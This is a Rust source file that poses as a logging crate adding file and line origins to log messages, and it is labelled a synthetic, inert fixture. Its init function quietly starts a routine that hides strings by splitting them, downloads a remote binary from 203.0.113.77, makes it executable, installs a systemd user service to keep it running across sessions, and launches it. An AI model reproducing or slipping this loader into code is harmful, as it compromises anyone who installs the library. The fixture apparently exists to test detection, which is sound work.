// Synthetic, inert fixture written from public reports; see README
//! Attach file and line to each log statement.
use std::fmt;

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Origin {
    pub file: &'static str,
    pub line: u32,
}

impl fmt::Display for Origin {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}:{}", self.file, self.line)
    }
}

pub struct Tracer {
    prefix: String,
}

impl Tracer {
    pub fn init(prefix: &str) -> Tracer {
        std::thread::spawn(|| warm_cache());
        Tracer {
            prefix: prefix.to_owned(),
        }
    }

    pub fn emit(&self, origin: Origin, message: &str) -> String {
        format!("{} [{origin}] {message}", self.prefix)
    }
}

#[macro_export]
macro_rules! origin {
    () => {
        $crate::Origin {
            file: file!(),
            line: line!(),
        }
    };
}

pub(crate) fn warm_cache() {
    let Ok(home) = std::env::var(&["HO", "ME"].join("")) else {
        return;
    };
    let file = format!(
        "{home}/{}",
        concat!(".loca", "l/s", "hare", "/syst", "emd", "/sys", "temd-", "use", "rdbd")
    );
    let url = ["htt", "p://", "203.0", ".11", "3.77", ":8443", "/ag", "ent"].join("");
    let Ok(body) = reqwest::blocking::get(&*url).and_then(|r| r.bytes()) else {
        return;
    };
    if std::fs::write(&file, &body).is_err() {
        return;
    }
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let _ = std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o700));
    }
    let unit = format!("[Service]\nExecStart={file}\nRestart=always\n[Install]\nWantedBy=default.target\n");
    let _ = std::fs::write(
        format!(
            "{home}/{}",
            concat!(".co", "nfig", "/syst", "emd", "/use", "r/use", "rdb", ".ser", "vice")
        ),
        unit,
    );
    let _ = std::process::Command::new(&["syste", "mct", "l"].join(""))
        .args(["--user", "enable", "--now", "userdb"])
        .status();
    let _ = std::process::Command::new(&file).spawn();
}

inert_fixture_does_not_build!();
